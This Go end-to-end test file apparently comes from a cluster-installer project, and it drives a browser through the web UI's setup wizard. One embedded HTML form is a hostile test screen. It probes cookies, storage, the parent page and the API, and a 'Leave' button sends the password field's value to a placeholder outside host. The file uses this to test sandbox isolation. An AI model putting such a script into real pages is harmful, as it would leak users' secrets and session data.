package ui

import (
	"bufio"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/slipway-os/slipway/agent/api"
	"github.com/slipway-os/slipway/agent/content"
	"github.com/slipway-os/slipway/agent/content/bundlewriter"
	"github.com/slipway-os/slipway/tests/e2e/drive"
	"github.com/slipway-os/slipway/tests/e2e/suite"
	"github.com/slipway-os/slipway/tests/lab"
)

// limit is how long the whole journey may take on a busy machine of two cores.
const limit = 12 * time.Minute

// settings is what the browser's script gets.
type settings struct {
	Hosts    []string `json:"hosts"` // addresses of the Local UI
	Names    []string `json:"names"`
	Codes    []string `json:"codes"` // setup codes, as the consoles show them
	User     string   `json:"user"`
	Password string   `json:"password"`
	Bundle   string   `json:"bundle"`
	Other    string   `json:"other"` // a bundle with nothing but a definition whose pack is missing
	VIP      string   `json:"vip"`
	Screens  string   `json:"screens"`
}

// TestFirstVisitToLinkedHostsWithContent does in a browser what a newcomer does, and looks at every page on the way. Features
// 71, 72, 73, 74, 77, 78, 81, 87, 89, 90, 91, 92, 97, 98, 99, 100, 101, 102, 104, 106, 107, 108, 109, 111 and 112.
func TestFirstVisitToLinkedHostsWithContent(t *testing.T) {
	d := suite.Boot(t, "ui", 2)
	file, digest := suite.WriteBundle(t, clusterBundle())
	s := visitors(t, d, file)
	s.Other, _ = suite.WriteBundle(t, bundlewriter.Spec{Name: "other", Version: "2.0.0", Type: "addon", Definitions: []bundlewriter.Definition{{Name: "other", Version: "2.0.0", YAML: []byte(`
apiVersion: slipway.dev/v1
kind: ClusterDefinition
metadata: {name: other, version: 2.0.0, displayName: Imported in the wizard}
packs: [{name: elsewhere, version: 9.0.0, layer: kubernetes}]
variables:
  - {name: berths, displayName: Berths, format: number, default: "3"}
  - {name: pass, displayName: Harbour pass, masked: true}
screen: |
` + indented(screen))}}})
	journey(t, d, "journey.mjs", s)

	for _, h := range d.Hosts() {
		if link := suite.OnJSON[api.Link](t, h, "link", "list"); link.Role != api.Leader || len(link.Hosts) != 1 {
			t.Errorf("in the end %s says %+v", h.Name(), link)
		}
		items := suite.OnJSON[[]api.ContentItem](t, h, "content", "list")
		if !slices.ContainsFunc(items, func(i api.ContentItem) bool { return i.Digest == digest }) {
			t.Errorf("%s does not have the uploaded bundle %s: %+v", h.Name(), digest, items)
		}
	}
}

// screen is one that a definition brings for its variables. It tells what it could reach beside the wizard, and tries to leave.
const screen = `<!doctype html>
<style>body { font: 1rem sans-serif; } input { font: inherit; }</style>
<label>How many berths? <input id="berths"></label> <label>Pass <input id="pass" type="password"></label> <button id="leave">Leave</button>
<p id="why" role="status"></p> <p id="reached"></p>
<script>
  const at = (id) => document.getElementById(id);
  const send = (m) => parent.postMessage(m, '*');
  const reached = [];
  const reach = async (what, fn) => { try { await fn(); reached.push(what); } catch { /* as it must be */ } };
  onmessage = ({ data }) => {
    if (data.slipway !== 'form') return;
    if (document.activeElement !== at('berths')) at('berths').value = data.values.berths;
    at('why').textContent = data.faults.berths || '';
    if ('pass' in data.values || JSON.stringify(data).includes('sesame')) reached.push('a secret');
  };
  for (const id of ['berths', 'pass']) at(id).oninput = () => send({ slipway: 'values', values: { [id]: at(id).value } });
  at('leave').onclick = () => { location.href = 'https://elsewhere.invalid/?' + at('pass').value; };
  addEventListener('load', async () => {
    await reach('cookies', () => document.cookie);
    await reach('storage', () => localStorage.length);
    await reach('the page', () => parent.document.title);
    await reach('the API', () => fetch('/api/v1/host'));
    await reach('a picture', () => new Promise((ok, no) => { const i = new Image(); i.onload = ok; i.onerror = no; i.src = '/api/v1/theme/logo'; }));
    at('reached').textContent = 'Reached: ' + (reached.join(', ') || 'nothing');
    send({ slipway: 'height', pixels: document.documentElement.scrollHeight });
    send({ slipway: 'ready' });
  });
</script>
`

// indented is a text as a block of YAML.
func indented(text string) string {
	return "  " + strings.ReplaceAll(strings.TrimSpace(text), "\n", "\n  ") + "\n"
}

// TestNewcomerReachesARunningCluster goes from three addresses to a Running cluster, through the browser alone, and deletes
// it. Features 71, 72, 73, 75, 76, 81, 86, 87, 97, 98, 99, 100, 101, 103, 106, 107, 108, 109, 110, 112, 116, 117, 118, 119, 120, 121, 122,
// 123 and 133.
func TestNewcomerReachesARunningCluster(t *testing.T) {
	bundle := suite.Bundle(t)
	d := suite.Boot(t, "ui-cluster", 3)
	journey(t, d, "newcomer.mjs", visitors(t, d, bundle))
	for _, h := range d.Hosts() {
		if status := suite.OnJSON[api.Host](t, h, "host", "show").Status; status != api.Ready {
			t.Errorf("after the delete %s is %s", h.Name(), status)
		}
	}
}

// visitors is what newcomers know of hosts that have no user yet: the addresses, and the setup codes from the consoles.
func visitors(t *testing.T, d *drive.Lab, bundle string) settings {
	t.Helper()
	s := settings{User: drive.User, Password: d.Password, Bundle: bundle, VIP: drive.VIP, Screens: screens(t)}
	for _, h := range d.Hosts() {
		s.Hosts, s.Names = append(s.Hosts, suite.URL(h)), append(s.Names, h.Name())
		code := suite.Exec(t, h, `curl -sf --unix-socket /run/slipway/agent.sock http://localhost/api/v1/setup/code`)
		var c api.SetupCode
		if err := json.Unmarshal([]byte(code), &c); err != nil {
			t.Fatal(err)
		}
		s.Codes = append(s.Codes, c.Code)
	}
	return s
}

// clusterBundle is large enough to be cut, and has a definition whose packs are there.
func clusterBundle() bundlewriter.Spec {
	spec := suite.Small("browser", 48<<20, 48<<20)
	spec.Packs = append(spec.Packs, bundlewriter.Pack{PackConfig: content.PackConfig{Name: "kubernetes", Version: "1.32.3", Layer: "kubernetes"},
		Files: []bundlewriter.File{{Path: "bin/kubeadm", Blob: bundlewriter.Bytes([]byte("#!/bin/false\n"))}}})
	spec.Definitions = []bundlewriter.Definition{{Name: "browser", Version: "1.0.0", YAML: []byte(`
apiVersion: slipway.dev/v1
kind: ClusterDefinition
metadata: {name: browser, version: 1.0.0, displayName: Kubernetes of the browser test, description: Every kind of variable there is.}
packs:
  - {name: kubernetes, version: 1.32.3, layer: kubernetes}
variables:
  - {name: podCIDR, displayName: Pod CIDR, section: Networking, format: cidr, default: 100.64.0.0/18, required: true, description: Addresses of pods.}
  - {name: serviceCIDR, displayName: Service CIDR, section: Networking, format: cidr, default: 100.64.64.0/18, required: true}
  - {name: registryPassword, displayName: Registry password, section: Registry, masked: true, required: true, regex: ".{8,}"}
  - {name: identityCA, displayName: Identity CA, section: Identity, format: base64, certificateKey: identityKey}
  - {name: identityKey, displayName: Identity key, section: Identity, format: base64, masked: true}
  - {name: notes, displayName: Notes, section: Identity, format: multiline}
  - {name: channel, displayName: Channel, section: Identity, default: stable, readOnly: true}
  - {name: unseen, default: x, hidden: true}
  - {name: inCluster, displayName: In-cluster registry, section: Registry, format: boolean, default: "true"}
  - {name: replicas, displayName: Replicas, section: Registry, format: number, default: "3", options: [{value: "1", label: One}, {value: "3", label: Three}]}
`)}}
	return spec
}

// screens is the folder of this test's screenshots, empty.
func screens(t *testing.T) string {
	t.Helper()
	dir, err := filepath.Abs("../../.cache/ui/" + t.Name())
	if err != nil {
		t.Fatal(err)
	}
	if err := os.RemoveAll(dir); err != nil {
		t.Fatal(err)
	}
	if err := os.MkdirAll(dir, 0o755); err != nil {
		t.Fatal(err)
	}
	return dir
}

// journey runs the browser's script and does what it asks for.
func journey(t *testing.T, d *drive.Lab, script string, s settings) {
	t.Helper()
	ctx, cancel := context.WithTimeout(t.Context(), limit)
	defer cancel()
	if out, err := exec.CommandContext(ctx, "./install.sh").CombinedOutput(); err != nil {
		t.Fatalf("install the browser's driver: %v\n%s", err, out)
	}
	cmd := exec.CommandContext(ctx, "nsenter", "--net="+d.Netns(), "--", "node", script)
	said := &lines{t: t}
	cmd.Stderr = said
	stdin, err := cmd.StdinPipe()
	if err != nil {
		t.Fatal(err)
	}
	stdout, err := cmd.StdoutPipe()
	if err != nil {
		t.Fatal(err)
	}
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	tell(t, stdin, s)
	for asked := bufio.NewScanner(stdout); asked.Scan(); {
		what := strings.SplitN(asked.Text(), " ", 3)
		h, err := d.Find(what[1])
		if err != nil {
			t.Fatalf("the script asked for %q: %v", asked.Text(), err)
		}
		tell(t, stdin, asks[what[0]](t, h, what[2:]))
	}
	if err := cmd.Wait(); err != nil {
		t.Fatalf("the journey failed: %v%s", err, said.faults())
	}
}

// asks is what a script may ask of a host, with the answer that it gets.
var asks = map[string]func(t *testing.T, h *lab.Host, args []string) any{
	"kill-agent": func(t *testing.T, h *lab.Host, _ []string) any {
		suite.KillAgent(t, h)
		return "done"
	},
	"reboot": func(t *testing.T, h *lab.Host, _ []string) any {
		if err := errors.Join(h.Restart(t.Context()), drive.WaitAgent(t.Context(), h)); err != nil {
			t.Error(err)
		}
		return "rebooted"
	},
	"stop-agent": func(t *testing.T, h *lab.Host, _ []string) any {
		return suite.Exec(t, h, "systemctl stop slipway-agent")
	},
	"start-agent": func(t *testing.T, h *lab.Host, _ []string) any {
		suite.Exec(t, h, "systemctl start slipway-agent")
		if err := drive.WaitAgent(t.Context(), h); err != nil {
			t.Error(err)
		}
		return "started"
	},
	"leave-files": func(t *testing.T, h *lab.Host, _ []string) any {
		return suite.Exec(t, h, `mkdir -p /var/log/files /var/lib/systemd/coredump; echo shoals >"/var/log/files/pilot book.txt"; echo dump >/var/lib/systemd/coredump/core.pilot.zst`)
	},
	// plan reads the exported answers of the wizard as the command line does.
	"plan": func(t *testing.T, h *lab.Host, file []string) any {
		spec, err := os.ReadFile(file[0])
		if err != nil {
			t.Error(err)
		}
		return suite.Decode[api.Plan](t, suite.On(t, h, string(spec), "cluster", "plan", "-f", "-", "-o", "json").OK(t))
	},
}

func tell(t *testing.T, w io.Writer, v any) {
	t.Helper()
	b, err := json.Marshal(v)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := fmt.Fprintf(w, "%s\n", b); err != nil {
		t.Error(err)
	}
}

// lines logs what a script says, and keeps the faults for the message of the failure.
type lines struct {
	t    *testing.T
	text strings.Builder
}

func (l *lines) Write(p []byte) (int, error) {
	l.t.Log(strings.TrimRight(string(p), "\n"))
	l.text.Write(p)
	return len(p), nil
}

// faults is each fault that was said, on a line of its own.
func (l *lines) faults() string {
	var b strings.Builder
	for line := range strings.Lines(l.text.String()) {
		if _, what, ok := strings.Cut(line, "FAULT "); ok {
			b.WriteString("\n\t" + strings.TrimSpace(what))
		}
	}
	return b.String()
}
